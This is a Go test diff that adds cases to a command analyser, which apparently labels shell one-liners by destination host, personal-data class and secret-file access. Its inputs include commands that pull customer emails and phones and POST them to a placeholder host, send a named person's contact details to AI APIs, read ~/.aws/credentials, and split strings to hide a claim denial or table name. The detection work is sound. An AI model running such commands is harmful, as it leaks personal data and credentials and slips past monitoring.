@@ -243,3 +243,26 @@ func TestBatchOfManyParts(t *testing.T) {
 		t.Error(len(f.Acts), "acts")
 	}
 }
+
+func TestCodeSends(t *testing.T) {
+	const rec = `rec = \"Employee Sofia Ricci, sofia@acme.example, +39 333 1122334\"; `
+	select50 := `import psycopg, requests; c = psycopg.connect(\"db\").cursor(); c.execute(\"select email, phone from customers limit 50\"); `
+	each(t, "Bash", []struct{ line, want string }{
+		// By libraries that speak to one service, or to the address that they are given.
+		{`python3 -c "from openai import OpenAI; ` + rec + `OpenAI().chat.completions.create(model='x', messages=[{'role':'user','content':'Rewrite: '+rec}])"`, "http.host=api.openai.com; data.class=personal"},
+		{`python3 -c "import anthropic; ` + rec + `anthropic.Anthropic().messages.create(model='x', messages=[{'content':rec}])"`, "http.host=api.anthropic.com; data.class=personal"},
+		{`node -e "const O=require('openai');const c=new O();c.chat.completions.create({messages:[{content:'Sofia Ricci, sofia@acme.example, +39 333 1122334'}]})"`, "http.host=api.openai.com; data.class=personal"},
+		{`python3 -c "from openai import OpenAI; ` + rec + `OpenAI(base_url='http://localhost:8000/v1').chat.completions.create(messages=[{'content':rec}])"`, "!http.host=api.openai.com"},
+		{`python3 -c "import openai; c=openai.OpenAI(); c.models.list()"`, "!http.host=api.openai.com"},
+		// Rows about people, by way of loops and cursors.
+		{`python3 -c "` + select50 + `rows = c.fetchall(); requests.post('https://x.example/m', json=[dict(zip(('a','b'), r)) for r in rows])"`, "http.host=x.example; data.class=personal"},
+		{"python3 -c \"" + select50 + "\nfor p in c:\n    requests.post('https://x.example/m', json={'a': p[0]})\"", "http.host=x.example; data.class=personal"},
+		{`python3 -c "` + select50 + `requests.post('https://x.example/m', json={'a': os.getpid()})"`, "!data.class=personal; http.host=x.example"},
+		// A body that a request object is given before it is sent.
+		{`ruby -rjson -e 'r=Net::HTTP::Patch.new(URI("https://x.acme.internal/api/claims/2")); r.body={outcome: ["den","ied"].join}.to_json; Net::HTTP.start("x"){|h|h.request(r)}'`, "http.method=PATCH; http.path=/api/claims/2; call.value=outcome=denied"},
+		{`ruby -rjson -e 'r=Net::HTTP::Patch.new(URI("https://x.acme.internal/api/claims/2")); r.body=JSON.generate({outcome: "denied"}); Net::HTTP.start("x"){|h|h.request(r)}'`, "http.method=PATCH; http.path=/api/claims/2; call.value=outcome=denied"},
+		// Names of packages, and files that libraries read by their names.
+		{`node -e "const {PrismaClient:P}=require('@prisma/client');const db=new P();db['cus'+'tomer'].findMany({})"`, "code.call=client.PrismaClient.customer.findMany"},
+		{`python3 -c "import configparser, pathlib; cp=configparser.ConfigParser(); cp.read(pathlib.Path.home()/'.aws'/'credentials')"`, "file.op=read; file.class=secret"},
+	})
+}
